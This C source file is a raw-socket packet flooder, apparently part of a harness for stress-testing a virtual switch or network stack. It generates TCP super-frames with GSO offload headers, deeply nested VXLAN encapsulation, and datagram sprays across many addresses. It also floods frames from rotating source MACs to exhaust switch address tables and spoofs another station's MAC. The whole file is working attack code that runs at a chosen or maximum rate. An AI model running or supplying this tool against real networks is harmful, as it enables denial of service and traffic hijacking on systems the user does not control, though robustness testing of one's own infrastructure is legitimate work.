/* flood DEVICE PPS KIND ...: sends frames by a packet socket, PPS a second or (0) as fast as it can. Needs CAP_NET_RAW.
 *   super    TO_MAC FROM_IP TO_IP BYTES                 TCP super-frames, to be segmented further on
 *   nested   TO_MAC FROM_IP TO_IP VNI TUNNEL_MAC LAYERS VXLAN within VXLAN, each for the same end of the same tunnel
 *   strangers TO_MAC FROM_IP FIRST_IP COUNT             datagrams to COUNT addresses in turn
 *   macs     COUNT                                      frames from COUNT Ethernet addresses in turn
 *   thief    MAC                                        frames from somebody else's Ethernet address */
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <linux/virtio_net.h>
#include <net/if.h>
#include <stdint.h>
#include <sys/socket.h>

#include "attack.h"

enum { ETHERNET = 14, IP = 20, UDP = 8, VXLAN = 8, LAYER = ETHERNET + IP + UDP + VXLAN, LONGEST = 65521 + ETHERNET };

static struct virtio_net_hdr offload;
static uint8_t frame[LONGEST];
static size_t length;

static void mac(uint8_t *to, const char *text) {
    unsigned byte[6];
    if (sscanf(text, "%x:%x:%x:%x:%x:%x", byte, byte + 1, byte + 2, byte + 3, byte + 4, byte + 5) != 6) {
        fprintf(stderr, "%s is no Ethernet address\n", text);
        exit(2);
    }
    for (int i = 0; i < 6; i++) to[i] = (uint8_t)byte[i];
}

static uint32_t ip(const char *text) {
    struct in_addr address;
    if (inet_pton(AF_INET, text, &address) != 1) {
        fprintf(stderr, "%s is no IPv4 address\n", text);
        exit(2);
    }
    return ntohl(address.s_addr);
}

static void put16(uint8_t *at, unsigned value) {
    at[0] = (uint8_t)(value >> 8);
    at[1] = (uint8_t)value;
}

static void put32(uint8_t *at, uint32_t value) {
    put16(at, value >> 16);
    put16(at + 2, value & 0xFFFF);
}

/* Internet checksum, folded but not inverted. */
static unsigned sum(const uint8_t *bytes, size_t count, uint32_t start) {
    for (size_t i = 0; i + 1 < count; i += 2) start += (uint32_t)(bytes[i] << 8 | bytes[i + 1]);
    while (start >> 16) start = (start & 0xFFFF) + (start >> 16);
    return start;
}

static void ethernet(uint8_t *at, const uint8_t *to, const uint8_t *from, unsigned type) {
    memcpy(at, to, 6);
    memcpy(at + 6, from, 6);
    put16(at + 12, type);
}

static void ipv4(uint8_t *at, unsigned total, uint8_t protocol, uint32_t from, uint32_t to) {
    memset(at, 0, IP);
    at[0] = 0x45;
    put16(at + 2, total);
    at[8] = 64;
    at[9] = protocol;
    put32(at + 12, from);
    put32(at + 16, to);
    put16(at + 10, ~sum(at, IP, 0) & 0xFFFF);
}

static void udp(uint8_t *at, unsigned total, unsigned from, unsigned to) {
    put16(at, from);
    put16(at + 2, to);
    put16(at + 4, total);
    put16(at + 6, 0);
}

static void super_frame(const uint8_t *own, char **words) {
    uint8_t to[6], *tcp = frame + ETHERNET + IP;
    unsigned bytes = (unsigned)atoi(words[3]);
    uint32_t source = ip(words[1]), destination = ip(words[2]);
    mac(to, words[0]);
    length = ETHERNET + bytes;
    ethernet(frame, to, own, ETH_P_IP);
    ipv4(frame + ETHERNET, bytes, IPPROTO_TCP, source, destination);
    put16(tcp, 4000);
    put16(tcp + 2, 4000);
    tcp[12] = 5 << 4;
    tcp[13] = 0x10; /* ACK */
    /* The sum of the pseudo header, as a sender with offload leaves it. */
    put16(tcp + 16, sum(frame + ETHERNET + 12, 8, IPPROTO_TCP + bytes - IP));
    offload = (struct virtio_net_hdr){
        .flags = VIRTIO_NET_HDR_F_NEEDS_CSUM, .gso_type = VIRTIO_NET_HDR_GSO_TCPV4, .gso_size = 1448,
        .hdr_len = ETHERNET + IP + 20, .csum_start = ETHERNET + IP, .csum_offset = 16};
}

static void nested(const uint8_t *own, char **words) {
    uint8_t to[6], tunnel[6];
    uint32_t source = ip(words[1]), destination = ip(words[2]), vni = (uint32_t)atoi(words[3]);
    int layers = atoi(words[5]);
    mac(to, words[0]);
    mac(tunnel, words[4]);
    length = (size_t)layers * LAYER + ETHERNET + IP + UDP;
    if (length > LONGEST) die("%d layers don't fit", layers);
    for (int layer = 0; layer < layers; layer++) {
        uint8_t *at = frame + layer * LAYER;
        unsigned left = (unsigned)(length - (size_t)layer * LAYER) - ETHERNET;
        ethernet(at, layer ? tunnel : to, own, ETH_P_IP);
        ipv4(at + ETHERNET, left, IPPROTO_UDP, source, destination);
        udp(at + ETHERNET + IP, left - IP, 49152, 4789);
        put32(at + ETHERNET + IP + UDP, 0x08000000);
        put32(at + ETHERNET + IP + UDP + 4, vni << 8);
    }
    uint8_t *inner = frame + layers * LAYER;
    ethernet(inner, tunnel, own, ETH_P_IP);
    ipv4(inner + ETHERNET, IP + UDP, IPPROTO_UDP, source, destination);
    udp(inner + ETHERNET + IP, UDP, 4000, 4000);
}

static void stranger(const uint8_t *own, char **words, long number) {
    uint8_t to[6];
    mac(to, words[0]);
    length = 60;
    ethernet(frame, to, own, ETH_P_IP);
    ipv4(frame + ETHERNET, IP + UDP, IPPROTO_UDP, ip(words[1]), ip(words[2]) + (uint32_t)(number % atol(words[3])));
    udp(frame + ETHERNET + IP, UDP, 4000, 4000);
}

/* A frame of an unassigned ethertype to nobody, from a station of choice. */
static void station(const uint8_t *from) {
    static const uint8_t nobody[6] = {2, 0, 0, 0, 0xFF, 0xFF};
    length = 60;
    ethernet(frame, nobody, from, 0x88B5);
}

int main(int argc, char **argv) {
    stop_on_signals();
    if (argc < 5) return 2;
    double pps = strtod(argv[2], NULL);
    const char *kind = argv[3];
    char **words = argv + 4;
    int wanted = !strcmp(kind, "super") || !strcmp(kind, "strangers") ? 4 : !strcmp(kind, "nested") ? 6 : 1;
    if (argc - 4 < wanted) return 2;
    int on = 1, packet = socket(AF_PACKET, SOCK_RAW, 0);
    struct sockaddr_ll address = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(argv[1])};
    if (packet < 0 || bind(packet, (struct sockaddr *)&address, sizeof address) < 0) die("packet socket on %s", argv[1]);
    socklen_t size = sizeof address;
    if (getsockname(packet, (struct sockaddr *)&address, &size) < 0) die("getsockname");
    if (setsockopt(packet, SOL_PACKET, PACKET_VNET_HDR, &on, sizeof on) < 0) die("PACKET_VNET_HDR");
    if (!strcmp(kind, "super")) super_frame(address.sll_addr, words);
    if (!strcmp(kind, "nested")) nested(address.sll_addr, words);
    ready(argc > 4 ? atol(words[wanted - 1]) : 0);
    struct iovec parts[2] = {{&offload, sizeof offload}, {frame, length}};
    struct msghdr message = {.msg_iov = parts, .msg_iovlen = 2};
    double start = now();
    for (long sent = 0; !stopping; sent++) {
        if (!strcmp(kind, "strangers")) stranger(address.sll_addr, words, sent);
        if (!strcmp(kind, "macs")) {
            uint8_t from[6] = {0x02, 0x66};
            put32(from + 2, (uint32_t)(sent % atol(words[0])));
            station(from);
        }
        if (!strcmp(kind, "thief")) {
            uint8_t from[6];
            mac(from, words[0]);
            station(from);
        }
        parts[1].iov_len = length;
        double ahead = pps > 0 ? start + (double)sent / pps - now() : 0;
        if (ahead > 0) sleep_ns((long)(ahead * 1e9));
        if (sendmsg(packet, &message, 0) < 0 && errno != ENOBUFS && errno != EINTR) die("sendmsg of %zu bytes", length);
    }
    return 0;
}
